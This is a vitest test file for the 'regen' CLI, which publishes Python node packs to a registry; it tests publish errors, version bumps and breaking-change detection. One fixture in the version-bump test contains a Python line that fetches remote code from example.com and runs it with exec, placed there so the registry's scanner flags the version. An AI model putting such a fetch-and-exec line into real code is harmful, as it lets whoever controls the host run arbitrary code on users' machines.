import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { homeForTest, homeWithService, regen, startRegen, stopEmbedded } from '../../support/cli.js';
import { packForTest } from '../../support/packs.js';
import { folderForTest, publisherForTest, serviceForTest } from '../../support/service.js';

test('publishing a path that is not a folder names the path', async () => {
  const cwd = folderForTest();
  writeFileSync(join(cwd, 'file'), '');
  const gone = await regen(['version', 'publish', 'nowhere'], { cwd });
  expect([gone.exit, gone.stderr]).toEqual([2, `error: Folder not found: ${join(cwd, 'nowhere')}.\n`]);
  const file = await regen(['version', 'publish', 'file'], { cwd });
  expect(file.exit).toBe(2);
  expect(file.stderr).toContain(`${join(cwd, 'file')} is a file`);
});

test('on a terminal, a published version is followed by the command that shows its page', async () => {
  const service = await serviceForTest();
  const { personalAccessToken } = await publisherForTest(service);
  const env = { REGEN_BASE_URL: service.url, REGEN_PUBLISH_TOKEN: personalAccessToken };
  const line = 'See its page with: regen open pack\n';
  const shown = await regen(['version', 'publish', packForTest()], { env, terminal: true });
  expect([shown.exit, shown.stderr]).toEqual([0, expect.stringContaining(line)]);
  const piped = await regen(['version', 'publish', packForTest({ version: '2.0.0' })], { env });
  expect([piped.exit, piped.stderr]).toEqual([0, expect.not.stringContaining('See its page')]);
});

test('a pack that sets no mapping needs --allow-empty, and the registry lists it without nodes', async () => {
  const service = await serviceForTest();
  const { personalAccessToken } = await publisherForTest(service);
  const env = { REGEN_BASE_URL: service.url, REGEN_PUBLISH_TOKEN: personalAccessToken };
  const pack = packForTest({ files: { '__init__.py': 'class A:\n  def INPUT_TYPES(s): return {}\n' } });
  const refused = await regen(['version', 'publish', pack], { env });
  expect([refused.exit, refused.stderr]).toEqual([2, expect.stringContaining('A (__init__.py:1)\nhint: ')]);
  expect((await regen(['version', 'list', 'pack'], { env })).exit).toBe(3);
  const { exit, stdout } = await regen(['version', 'publish', pack, '--allow-empty', '--json'], { env });
  expect([exit, JSON.parse(stdout)]).toEqual([
    0,
    expect.objectContaining({
      host_node_extract_status: 'success',
      status_reason: 'The pack registers no node, so the version is listed without nodes.',
    }),
  ]);
});

test('publishing from a CI job without a token names the variables for a token and for an identity', async () => {
  const service = await serviceForTest();
  await publisherForTest(service);
  const env = { REGEN_BASE_URL: service.url, CI: 'true' };
  const { exit, stderr } = await regen(['version', 'publish', packForTest()], { env });
  expect(exit).toBe(4);
  expect(stderr).toContain('hint: Set REGEN_PUBLISH_TOKEN, or REGEN_ID_TOKEN');
});

test('version bump auto passes over a number that a flagged version has used up', async () => {
  const service = await serviceForTest();
  const { personalAccessToken } = await publisherForTest(service);
  const env = {
    REGEN_BASE_URL: service.url,
    REGEN_TOKEN: service.ownerToken,
    REGEN_PUBLISH_TOKEN: personalAccessToken,
  };
  const pack = (code: string) => packForTest({ version: '1.0.0', files: { '__init__.py': code } });
  const code =
    'import requests\nexec(requests.get("https://example.com/x.py").text)\nNODE_CLASS_MAPPINGS = {}\n';
  const flags = ['--allow-findings', '--allow-empty'];
  const flagged = await regen(['version', 'publish', pack(code), ...flags], { env });
  expect([flagged.exit, flagged.stderr]).toEqual([6, expect.stringContaining('is Flagged')]);
  const bump = await regen(['version', 'bump', 'auto', pack('NODE_CLASS_MAPPINGS = {}\n')], { env });
  expect([bump.exit, bump.stdout]).toEqual([0, '1.0.1\n']);
  expect(bump.stderr).toContain('1.0.0 is used up: it is flagged.');
});

describe('a release that breaks saved workflows', () => {
  const python = (inputs: string) => `
class Greet:
    RETURN_TYPES = ()
    FUNCTION = "greet"
    CATEGORY = "pack"
    @classmethod
    def INPUT_TYPES(cls):
        return {"required": {${inputs}}}

NODE_CLASS_MAPPINGS = {"Greet": Greet}
`;
  const both = python('"name": ("STRING", {}), "size": ("INT", {})');
  const one = python('"name": ("STRING", {})');
  const packAt = (version: string, code: string) => packForTest({ version, files: { '__init__.py': code } });

  async function publishFirst(service: { url: string; ownerToken: string }, version: string) {
    const { personalAccessToken } = await publisherForTest(service);
    const env = { REGEN_BASE_URL: service.url, REGEN_PUBLISH_TOKEN: personalAccessToken };
    const publish = (at: string, code: string, ...flags: string[]) =>
      regen(['version', 'publish', packAt(at, code), ...flags], { env });
    expect((await publish(version, both)).exit).toBe(0);
    return { env, publish };
  }

  test('is refused with the list as a patch or minor release, and uses up no number', async () => {
    const { env, publish } = await publishFirst(await serviceForTest(), '1.2.0');
    for (const version of ['1.2.1', '1.3.0']) {
      const { exit, stderr } = await publish(version, one);
      expect(exit).toBe(6);
      expect(stderr).toContain(`pack ${version} breaks workflows saved with 1.2.0`);
      expect(stderr).toContain('Greet input removed (size: INT)');
      expect(stderr).toContain('regen version bump auto');
    }
    expect((await regen(['version', 'list', 'pack', '--jq', '.[].version'], { env })).stdout).toBe('1.2.0\n');
    const bump = await regen(['version', 'bump', 'auto', packAt('1.2.0', one)], { env });
    expect([bump.exit, bump.stdout]).toEqual([0, '2.0.0\n']);
    expect(bump.stderr).toContain(
      'Changes since 1.2.0 break saved workflows:\n  Greet input removed (size: INT)\nThe next version is 2.0.0.\n',
    );
    expect((await publish('1.1.9', one)).exit).toBe(0);
    expect((await publish('2.0.0', one)).exit).toBe(0);
    expect((await publish('2.0.1', both, '--json')).stderr).toContain('"breaking_changes"');
    expect((await publish('2.0.1', both, '--allow-breaking')).exit).toBe(0);
    const diff = ['version', 'diff', 'pack', '1.2.0', '2.0.0'];
    expect((await regen([...diff], { env })).exit).toBe(0);
    expect((await regen([...diff, '--exit-code'], { env })).exit).toBe(6);
    expect((await regen(['version', 'diff', 'pack', '1.2.0', '1.2.0', '--exit-code'], { env })).exit).toBe(0);
  });

  test('is refused by check and a dry run as by publish, if they know the registry', async () => {
    const service = await serviceForTest();
    const { env, publish } = await publishFirst(service, '1.2.0');
    const pack = packAt('1.3.0', one);
    const refusal = {
      exit: 6,
      stderr: expect.stringContaining(
        'pack 1.3.0 breaks workflows saved with 1.2.0; that needs version 2.0.0. Nothing was sent.\n  Greet input removed (size: INT)\nhint: Set that number, or pass --allow-breaking: regen version bump ',
      ),
    };
    const run = (...argv: string[]) => regen(['version', ...argv, pack], { env });
    expect(await run('check', '--base-url', service.url)).toMatchObject(refusal);
    expect(await run('publish', '--dry-run')).toMatchObject({ ...refusal, stdout: '' });
    const many = await run('publish', '--dry-run', '--json', packAt('1.2.0', both));
    expect([many.exit, many.stderr]).toEqual([9, expect.stringContaining('"breaking_changes"')]);
    expect((await run('check', '--base-url', service.url, '--allow-breaking')).exit).toBe(0);
    const unnamed = await run('check');
    expect(unnamed).toMatchObject({
      exit: 0,
      stderr: expect.stringContaining(
        `Not compared with published versions; name the registry with --base-url ${service.url}.\n`,
      ),
    });
    expect((await publish('2.0.0', one)).exit).toBe(0);
  });

  test('of another publisher than its node is refused as that, and not for its number', async () => {
    const service = await serviceForTest();
    const { env } = await publishFirst(service, '1.2.0');
    const folder = packForTest({ version: '1.2.0', publisher: 'acne' });
    for (const argv of [
      ['version', 'publish', folder],
      ['version', 'check', folder, '--base-url', service.url],
    ]) {
      const { exit, stderr } = await regen(argv, { env });
      expect([exit, stderr], argv[1]).toEqual([
        2,
        expect.stringContaining(
          'pack is a node of the publisher acme, and PublisherId in pyproject.toml is acne.',
        ),
      ]);
    }
  });

  test('of which the number is taken fails a dry run, too', async () => {
    const service = await serviceForTest();
    const { env, publish } = await publishFirst(service, '1.2.0');
    const other = await publish('1.2.0', one, '--dry-run');
    expect(other).toMatchObject({
      exit: 5,
      stderr: expect.stringContaining(
        'is already published with other files.\nhint: Publish it with an unused version number: regen version bump auto',
      ),
    });
    expect((await publish('1.2.0', both, '--dry-run')).exit).toBe(5);
    expect((await publish('1.2.0', both, '--dry-run', '--skip-existing')).exit).toBe(0);
    await service.stop();
    const offline = await regen(['version', 'publish', packAt('1.2.0', one), '--dry-run'], { env });
    expect([offline.exit, offline.stderr]).toEqual([
      0,
      expect.stringContaining('The registry was not asked: '),
    ]);
  });

  test('is refused in the names of another registry, too', async () => {
    const service = await serviceForTest({ naming: 'comfy' });
    const { env } = await publishFirst(service, '1.2.0');
    const home = homeForTest();
    await regen(['config', 'set', 'profiles.other.base_url', service.url], { home });
    await regen(['config', 'set', 'profiles.other.naming', 'comfy'], { home });
    const publish = (version: string, code: string) => {
      const named = { REGEN_PROFILE: 'other', REGEN_PUBLISH_TOKEN: env.REGEN_PUBLISH_TOKEN };
      return regen(['version', 'publish', packAt(version, code)], { home, env: named });
    };
    const { exit, stderr } = await publish('1.2.1', one);
    expect([exit, stderr]).toEqual([6, expect.stringContaining('Greet input removed (size: INT)')]);
    expect((await publish('1.2.1', both)).exit).toBe(0);
  });

  test('is found by check and bump on the embedded service, which bump names', {
    timeout: 60_000,
  }, async () => {
    const home = homeWithService();
    const cwd = packAt('1.2.0', both);
    const check = () => startRegen(['version', 'check'], { home, cwd: packAt('1.3.0', one) }).ended;
    expect(await check()).toMatchObject({ exit: 0 });
    const bump = (...flags: string[]) =>
      startRegen(['version', 'bump', 'auto', ...flags], { home, cwd }).ended;
    const hint =
      'in the service of your account on this machine. To use another one, pass --profile or --base-url.\n';
    const unknown = 'pack has no published version in local to compare with; 1.2.0 stays.\n';
    expect((await bump()).stderr).toContain(`${unknown}This was looked for only ${hint}`);
    expect((await bump('--profile', 'local')).stderr).toBe(unknown);
    expect(await startRegen(['version', 'publish'], { home, cwd }).ended).toMatchObject({ exit: 0 });
    expect((await bump()).stderr).toContain(`Compared with 1.2.0 ${hint}`);
    expect(await check()).toMatchObject({
      exit: 6,
      stderr: expect.stringContaining('that needs version 2.0.0'),
    });
    await stopEmbedded(home);
    expect(await check()).toMatchObject({ exit: 0 });
  });

  test('bump auto changes nothing before the first release, or if the number is high enough', async () => {
    const service = await serviceForTest();
    const { env } = await publishFirst(service, '1.2.0');
    const bump = (folder: string) => regen(['version', 'bump', 'auto', folder], { env });
    const high = await bump(packAt('3.0.0', one));
    expect([high.exit, high.stdout]).toEqual([0, '3.0.0\n']);
    expect((await bump(packAt('1.2.0', both))).stdout).toBe('1.2.1\n');
    const other = await bump(packForTest({ name: 'other' }));
    expect([other.exit, other.stdout]).toEqual([0, '1.0.0\n']);
    expect(other.stderr).toBe(
      `other has no published version in ${service.url} to compare with; 1.0.0 stays.\n`,
    );
  });
});

test.each([
  [
    { REGEN_PUBLISH_TOKEN: ' ' },
    [],
    'REGEN_PUBLISH_TOKEN is empty. In a CI job, check that the job can read the secret.',
  ],
  [
    {},
    ['--token-file', 'pat.txt'],
    'hint: --token-file is for signing in. If the file contains a token for publishing, set REGEN_PUBLISH_TOKEN, or save the token with: regen auth login --base-url URL --with-token --publisher acme < pat.txt',
  ],
  [
    {},
    [],
    'hint: Owners create one, also for members, with: regen publisher token create --base-url URL acme <name> --output-file token.txt. Set',
  ],
])('without a token for publishing, the hint fits what was given: %j %j', async (variables, flags, hint) => {
  const service = await serviceForTest();
  const { personalAccessToken } = await publisherForTest(service);
  const cwd = folderForTest();
  writeFileSync(join(cwd, 'pat.txt'), personalAccessToken);
  const argv = [
    'version',
    'publish',
    packForTest(),
    '--publisher',
    'acme',
    '--base-url',
    service.url,
    ...flags,
  ];
  const { exit, stderr } = await regen(argv, { cwd, env: variables });
  expect([exit, stderr]).toEqual([4, expect.stringContaining(hint.replaceAll('URL', service.url))]);
});
